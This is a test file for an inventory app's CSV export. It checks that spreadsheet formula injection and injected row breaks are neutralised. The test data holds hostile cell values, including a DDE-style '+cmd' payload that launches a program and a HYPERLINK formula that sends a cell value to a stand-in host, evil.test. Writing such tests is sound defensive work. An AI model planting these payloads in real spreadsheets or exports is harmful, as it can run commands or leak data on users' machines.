import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { anonymous, type Session, useTestApp } from '../../../../test/helpers/app.ts';
import type { ImportPreview } from '../../../common/schemas/import.ts';
import { parseCsvBytes } from './csv-read.ts';

const t = useTestApp();
const [staff, client] = t.signIn('staff', 'client');

const unique = () => Math.random().toString(36).slice(2, 8);

/** What a spreadsheet would run: a cell starting with one of these is read as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;

const HOSTILE_NAMES = [
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  "'=already quoted",
];
// A bare LF or CR made the rest of the note a row of its own, its first cell a formula.
const HOSTILE_NOTES = [
  'first line\n=HYPERLINK("http://evil.test","row")',
  'first line\r=1+1,second cell',
  'a "quoted" word, and a comma',
  '-minus first',
];

async function exportAs(session: Session, q: string) {
  const res = await t.inject(session, {
    method: 'GET',
    url: `/api/inventory/export.csv?q=${encodeURIComponent(q)}`,
  });
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
}

/** Rows as Python's csv module reads them (what a script or a spreadsheet import sees). */
function pythonRows(csv: Buffer): string[][] {
  const script = [
    'import csv, io, json, sys',
    "text = io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8-sig', newline='')",
    'json.dump(list(csv.reader(text)), sys.stdout)',
  ].join('\n');
  return JSON.parse(
    execFileSync('python3', ['-c', script], { input: csv }).toString(),
  ) as string[][];
}

const column = (rows: string[][], name: string) => {
  const at = rows[0]!.indexOf(name);
  return rows.slice(1).map((row) => row[at]);
};

describe('GET /api/inventory/export.csv: formulas and rows injected through the data', () => {
  it('refuses anonymous callers', async () => {
    const res = await t.inject(anonymous, { method: 'GET', url: '/api/inventory/export.csv' });
    expect(res.statusCode).toBe(401);
  });

  it('writes every value so that no cell starts a formula and no value starts a row', async () => {
    const tag = unique();
    const evilClient = await t.build.client({ name: `=cmd ${tag}` });
    const items = [];
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      items.push(
        await t.build.item({
          name: `${name} ${tag}`,
          note: `${HOSTILE_NOTES[i % HOSTILE_NOTES.length]} ${tag}`,
          client_id: evilClient.id,
        }),
      );
    }
    // Notes starting with TAB or CR: the forms trim them today, older data may hold them.
    await t.app.db
      .updateTable('items')
      .set({ note: `\t=1+1 ${tag}` })
      .where('id', '=', items[0]!.id)
      .execute();
    await t.app.db
      .updateTable('items')
      .set({ note: `\r=1+1 ${tag}` })
      .where('id', '=', items[1]!.id)
      .execute();

    const csv = await exportAs(staff, tag);
    const rows = pythonRows(csv);
    expect(rows).toHaveLength(items.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(10);
      for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    }
    expect(column(rows, 'name').sort()).toEqual(
      HOSTILE_NAMES.map((name) => `'${name} ${tag}`).sort(),
    );
    expect(new Set(column(rows, 'client'))).toEqual(new Set([`'=cmd ${tag}`]));
    const notes = column(rows, 'note');
    expect(notes).toContain(`'\t=1+1 ${tag}`);
    expect(notes).toContain(`'\r=1+1 ${tag}`);
    expect(notes).toContain(`first line\r=1+1,second cell ${tag}`);

    // Our own reader takes the quote off again: the values come back as they are stored.
    const ours = await parseCsvBytes(csv);
    expect(ours.rows).toHaveLength(items.length);
    const nameAt = ours.header.indexOf('name');
    expect(ours.rows.map((r) => r.cells[nameAt]).sort()).toEqual(
      HOSTILE_NAMES.map((name) => `${name} ${tag}`).sort(),
    );
  });

  it('neutralises a client user’s export too', async () => {
    const tag = unique();
    const { client_id } = await t.row('users', client.member!.id);
    await t.build.item({ name: `@SUM(1) ${tag}`, note: `x\n=1+1 ${tag}`, client_id });
    const rows = pythonRows(await exportAs(client, tag));
    expect(rows).toHaveLength(2);
    expect(column(rows, 'name')).toEqual([`'@SUM(1) ${tag}`]);
    expect(column(rows, 'note')).toEqual([`x\n=1+1 ${tag}`]);
  });

  it('export → import is a round trip for such values: nothing changes', async () => {
    const tag = unique();
    for (const [i, name] of HOSTILE_NAMES.entries()) {
      await t.build.item({ name: `${name} ${tag}`, note: `${HOSTILE_NOTES[i % 4]} ${tag}` });
    }
    const csv = await exportAs(staff, tag);
    const before = await t.count('activity');
    const res = await t.importCsv(staff, csv);
    expect(res.statusCode, res.body).toBe(200);
    const p = res.json() as ImportPreview;
    expect(p.errors).toEqual([]);
    expect([p.create, p.update, p.unchanged]).toEqual([0, 0, HOSTILE_NAMES.length]);
    expect(await t.count('activity')).toBe(before);
  });

  it('reads a hand-written leading quote before anything else as it is', async () => {
    const parsed = await parseCsvBytes(Buffer.from("name,note\n'Tis a crate,'quoted\n"));
    expect(parsed.rows[0]!.cells).toEqual(["'Tis a crate", "'quoted"]);
  });
});
